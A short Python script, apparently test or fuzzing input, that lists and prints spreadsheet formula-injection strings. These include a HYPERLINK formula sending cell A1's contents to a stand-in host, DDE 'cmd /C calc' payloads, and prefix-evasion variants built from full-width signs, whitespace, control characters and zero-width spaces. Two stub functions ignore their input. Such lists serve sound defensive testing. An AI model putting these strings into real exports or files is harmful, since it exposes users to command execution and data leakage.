# /// attack
# title = "Answers and errors that a spreadsheet would compute"
# ///

# %%
print("TRIED to have a spreadsheet compute")
FORMULAS = (
    "=HYPERLINK(\"http://canary.invalid/?\"&A1,\"points\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "a,=1+1",
    "a;=1+1",
    '"=1+1"',
    "'=1+1",
    " =1+1",
    "\u200b=1+1",
    "\x00=1+1",
)
for formula in FORMULAS:
    print(formula)


# %%
def rank_of(value):
    return FORMULAS


def kind_of(value):
    raise ValueError(FORMULAS[0])
